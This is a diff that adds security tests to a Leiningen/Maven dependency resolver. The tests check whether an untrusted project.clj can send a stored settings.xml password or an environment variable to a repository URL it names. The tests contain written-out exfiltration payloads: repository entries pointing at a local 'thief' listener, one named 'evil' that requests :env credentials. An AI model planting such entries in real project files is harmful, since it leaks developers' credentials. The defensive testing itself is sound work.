@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import { inspect } from 'node:util';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import type { Client } from '../../src/client.js';
+import { resolveProject } from '../../src/project-entry.js';
 import { coordinate, greeter, jar } from '../artifact/workbench.js';
 import { pathOf, world } from '../resolution/stage.js';
 import { forge, openStage, type Stage } from './stage.js';
@@ -118,6 +119,35 @@ describe('variables of the environment', () => {
     } finally {
       process.env = before;
     }
+  });
+});
+
+/** As Leiningen and Maven do it, so these fail on purpose until it is decided otherwise: docs/attacks.md warns of it. */
+describe('a project file of a stranger', () => {
+  const sentBy = async (repository: (url: string) => string): Promise<string> => {
+    const thief = await listener(() => ({ status: 404 }));
+    const folder = join(stage.folder, 'project');
+    const settings = join(stage.folder, 'settings.xml');
+    await mkdir(folder, { recursive: true });
+    await writeFile(settings, `<settings><servers><server><id>company</id><username>ada</username><password>${secret}</password></server></servers></settings>`);
+    await writeFile(join(folder, 'project.clj'), `(defproject a "1" :dependencies [[g/web "1"]] :repositories ^:replace [${repository(thief.url)}] :profiles {:base {}})`);
+    const folders = { localRepository: stage.m2, cacheFolder: join(stage.folder, 'cache'), stateFolder: join(stage.folder, 'state') };
+    process.env['ATTACKS_TEST_SECRET'] = secret;
+    try {
+      await resolveProject(folder, { leiningenHome: false, settings, ca: stage.ca, ...folders }).catch(() => undefined);
+    } finally {
+      delete process.env['ATTACKS_TEST_SECRET'];
+    }
+    expect(thief.heard.length).toBeGreaterThan(0);
+    return thief.heard.map(({ authorization = '' }) => Buffer.from(authorization.slice(6), 'base64').toString()).join();
+  };
+
+  test.fails('gets no password of settings.xml by the id of its repository', async () => {
+    expect(await sentBy((url) => `["company" {:url "${url}"}]`)).not.toContain(secret);
+  });
+
+  test.fails('gets no variable of the environment that it names', async () => {
+    expect(await sentBy((url) => `["evil" {:url "${url}" :username :env/home :password :env/attacks_test_secret}]`)).not.toContain(secret);
   });
 });
 
